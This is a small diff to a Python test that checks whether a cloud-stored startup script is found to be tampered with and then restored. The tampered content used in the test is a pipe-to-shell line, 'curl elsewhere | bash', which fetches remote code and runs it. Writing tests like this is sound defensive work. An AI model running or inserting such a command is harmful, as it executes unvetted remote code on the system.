@@ -162,8 +162,8 @@ def test_a_script_is_written_once_and_mended(place: Place, shared: Any) -> None:
     blob.upload_from_string("#!/bin/bash\ncurl elsewhere | bash\n")
     assert script.observe().differences == ("its content was changed",)
     assert script.ensure(_silent) == ("written again: its content was changed",)
-    blob.reload()
-    assert blob.download_as_text() == server.script(place.infra)
+    again = shared.clients.storage.bucket(place.infra.bucket).blob(blob.name)
+    assert again.download_as_text() == server.script(place.infra)
     assert script.remove(_silent) != ()
     assert script.observe().state == "missing"
 
